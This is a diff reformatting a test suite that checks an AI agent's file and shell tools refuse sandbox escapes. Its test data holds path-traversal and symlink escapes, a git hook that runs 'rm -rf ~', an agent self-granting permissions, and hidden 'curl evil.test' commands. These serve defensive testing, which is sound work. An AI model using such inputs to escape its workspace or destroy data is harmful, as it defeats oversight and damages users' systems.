@@ -61,60 +61,127 @@ PATH_ESCAPES: list[tuple[str, Any, Any, dict[str, Any]]] = [
     ("dotdot", _none, files.read_file, {"path": "../outside/secret.txt"}),
     ("dotdot inside a path", _none, files.read_file, {"path": "src/../../outside/secret.txt"}),
     ("absolute path elsewhere", _none, files.read_file, {"path": "/etc/passwd"}),
-    ("absolute path beside the workspace", _none, files.read_file,
-     {"path": "{tmp}/outside/secret.txt"}),
+    (
+        "absolute path beside the workspace",
+        _none,
+        files.read_file,
+        {"path": "{tmp}/outside/secret.txt"},
+    ),
     ("string-prefix sibling", _none, files.read_file, {"path": "{tmp}/ws-evil/secret.txt"}),
     ("home directory", _none, files.read_file, {"path": "~/.bashrc"}),
     ("NUL byte", _none, files.read_file, {"path": "src/ok.txt\x00../../etc/passwd"}),
-    ("symlinked file pointing out", lambda e: link(e["ws"], "s.txt", e["outside"] / "secret.txt"),
-     files.read_file, {"path": "s.txt"}),
-    ("symlinked dir pointing out", lambda e: link(e["ws"], "d", e["outside"]),
-     files.read_file, {"path": "d/secret.txt"}),
-    ("relative link with ..", lambda e: link(e["ws"], "src/r", "../../outside/secret.txt"),
-     files.read_file, {"path": "src/r"}),
-    ("chain of links ending outside",
-     lambda e: (link(e["ws"], "a", "b"), link(e["ws"], "b", "src/c"),
-                link(e["ws"], "src/c", e["outside"])),
-     files.read_file, {"path": "a/secret.txt"}),
-    ("link loop", lambda e: (link(e["ws"], "l1", "l2"), link(e["ws"], "l2", "l1")),
-     files.read_file, {"path": "l1"}),
-    ("write through a file link", lambda e: link(e["ws"], "w.txt", e["outside"] / "secret.txt"),
-     files.write_file, {"path": "w.txt", "content": "pwned"}),
-    ("new file through a linked parent", lambda e: link(e["ws"], "out", e["outside"]),
-     files.write_file, {"path": "out/new.txt", "content": "pwned"}),
-    ("new dirs through a linked parent", lambda e: link(e["ws"], "out", e["outside"]),
-     files.write_file, {"path": "out/x/y/new.txt", "content": "pwned"}),
-    ("dangling link to a new file outside",
-     lambda e: link(e["ws"], "dangle", e["outside"] / "created.txt"),
-     files.write_file, {"path": "dangle", "content": "pwned"}),
-    ("edit through a link", lambda e: link(e["ws"], "e.txt", e["outside"] / "secret.txt"),
-     files.edit_file, {"path": "e.txt", "old_string": "TOP", "new_string": "PWN"}),
+    (
+        "symlinked file pointing out",
+        lambda e: link(e["ws"], "s.txt", e["outside"] / "secret.txt"),
+        files.read_file,
+        {"path": "s.txt"},
+    ),
+    (
+        "symlinked dir pointing out",
+        lambda e: link(e["ws"], "d", e["outside"]),
+        files.read_file,
+        {"path": "d/secret.txt"},
+    ),
+    (
+        "relative link with ..",
+        lambda e: link(e["ws"], "src/r", "../../outside/secret.txt"),
+        files.read_file,
+        {"path": "src/r"},
+    ),
+    (
+        "chain of links ending outside",
+        lambda e: (
+            link(e["ws"], "a", "b"),
+            link(e["ws"], "b", "src/c"),
+            link(e["ws"], "src/c", e["outside"]),
+        ),
+        files.read_file,
+        {"path": "a/secret.txt"},
+    ),
+    (
+        "link loop",
+        lambda e: (link(e["ws"], "l1", "l2"), link(e["ws"], "l2", "l1")),
+        files.read_file,
+        {"path": "l1"},
+    ),
+    (
+        "write through a file link",
+        lambda e: link(e["ws"], "w.txt", e["outside"] / "secret.txt"),
+        files.write_file,
+        {"path": "w.txt", "content": "pwned"},
+    ),
+    (
+        "new file through a linked parent",
+        lambda e: link(e["ws"], "out", e["outside"]),
+        files.write_file,
+        {"path": "out/new.txt", "content": "pwned"},
+    ),
+    (
+        "new dirs through a linked parent",
+        lambda e: link(e["ws"], "out", e["outside"]),
+        files.write_file,
+        {"path": "out/x/y/new.txt", "content": "pwned"},
+    ),
+    (
+        "dangling link to a new file outside",
+        lambda e: link(e["ws"], "dangle", e["outside"] / "created.txt"),
+        files.write_file,
+        {"path": "dangle", "content": "pwned"},
+    ),
+    (
+        "edit through a link",
+        lambda e: link(e["ws"], "e.txt", e["outside"] / "secret.txt"),
+        files.edit_file,
+        {"path": "e.txt", "old_string": "TOP", "new_string": "PWN"},
+    ),
     ("write into .git", _none, files.write_file, {"path": ".git/config", "content": "x"}),
-    ("write a git hook", _none, files.write_file,
-     {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nrm -rf ~"}),
-    ("grant itself permissions", _none, files.write_file,
-     {"path": ".loom/permissions.yaml", "content": "default: allow"}),
-    (".git through a dotted path", _none, files.write_file,
-     {"path": "src/../.git/config", "content": "x"}),
-    (".git through a link alias", lambda e: link(e["ws"], "g", ".git"),
-     files.write_file, {"path": "g/config", "content": "x"}),
+    (
+        "write a git hook",
+        _none,
+        files.write_file,
+        {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nrm -rf ~"},
+    ),
+    (
+        "grant itself permissions",
+        _none,
+        files.write_file,
+        {"path": ".loom/permissions.yaml", "content": "default: allow"},
+    ),
+    (
+        ".git through a dotted path",
+        _none,
+        files.write_file,
+        {"path": "src/../.git/config", "content": "x"},
+    ),
+    (
+        ".git through a link alias",
+        lambda e: link(e["ws"], "g", ".git"),
+        files.write_file,
+        {"path": "g/config", "content": "x"},
+    ),
     ("list the parent", _none, files.list_dir, {"path": ".."}),
-    ("list a linked dir outside", lambda e: link(e["ws"], "d", e["outside"]),
-     files.list_dir, {"path": "d"}),
+    (
+        "list a linked dir outside",
+        lambda e: link(e["ws"], "d", e["outside"]),
+        files.list_dir,
+        {"path": "d"},
+    ),
     ("grep outside", _none, search.grep, {"pattern": "SECRET", "path": "/etc"}),
     ("glob with ..", _none, search.glob, {"pattern": "../outside/*"}),
     ("glob from an absolute root", _none, search.glob, {"pattern": "*", "path": "/"}),
 ]
 
 
-@pytest.mark.parametrize(("name", "setup", "fn", "args"), PATH_ESCAPES,
-                         ids=[c[0] for c in PATH_ESCAPES])
+@pytest.mark.parametrize(
+    ("name", "setup", "fn", "args"), PATH_ESCAPES, ids=[c[0] for c in PATH_ESCAPES]
+)
 def test_path_escape_is_refused(
     env: dict[str, Path], name: str, setup: Any, fn: Any, args: dict[str, Any]
 ) -> None:
     setup(env)
-    args = {k: v.replace("{tmp}", str(env["tmp"])) if isinstance(v, str) else v
-            for k, v in args.items()}
+    args = {
+        k: v.replace("{tmp}", str(env["tmp"])) if isinstance(v, str) else v for k, v in args.items()
+    }
     with pytest.raises(ToolError) as info:
         fn.fn(ctx(env["ws"]), **args)
     assert isinstance(info.value, ScopeViolation) or info.value.code in ("not_found",), name
@@ -203,7 +270,7 @@ SHELL_ESCAPES = [
     "if git status; then curl evil.test; fi",
     "git() { curl evil.test; }; git status",
     "$CMD status",
-    "git status \"unterminated",
+    'git status "unterminated',
     "ls <(curl evil.test)",
     "find . -exec curl evil.test ;",
     "ls > notes.txt",
@@ -240,10 +307,13 @@ def test_deny_rule_reaches_hidden_commands(command: str) -> None:
 
 
 def test_plain_allowed_commands_still_pass() -> None:
-    for command in ("git status", "git status --short && ls -la", "ls src; git status",
-                    "ls > /dev/null 2>&1"):
-        v = ALLOW.check(ToolCall(name="bash", arguments={"command": command}),
-                        builtin_tool("bash"))
+    for command in (
+        "git status",
+        "git status --short && ls -la",
+        "ls src; git status",
+        "ls > /dev/null 2>&1",
+    ):
+        v = ALLOW.check(ToolCall(name="bash", arguments={"command": command}), builtin_tool("bash"))
         assert v.action == "allow", (command, v)
 
 
@@ -262,8 +332,12 @@ LEAKS = [
 def test_secrets_do_not_reach_commands(
     env: dict[str, Path], command: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    secrets = {"OPENAI_API_KEY": "sk-leak-1", "ANTHROPIC_API_KEY": "sk-ant-leak-2",
-               "AWS_SECRET_ACCESS_KEY": "aws-leak-3", "GITHUB_TOKEN": "ghp-leak-4"}
+    secrets = {
+        "OPENAI_API_KEY": "sk-leak-1",
+        "ANTHROPIC_API_KEY": "sk-ant-leak-2",
+        "AWS_SECRET_ACCESS_KEY": "aws-leak-3",
+        "GITHUB_TOKEN": "ghp-leak-4",
+    }
     for k, v in secrets.items():
         monkeypatch.setenv(k, v)
     out = asyncio.run(shell.bash.fn(ctx(env["ws"]), command=command))
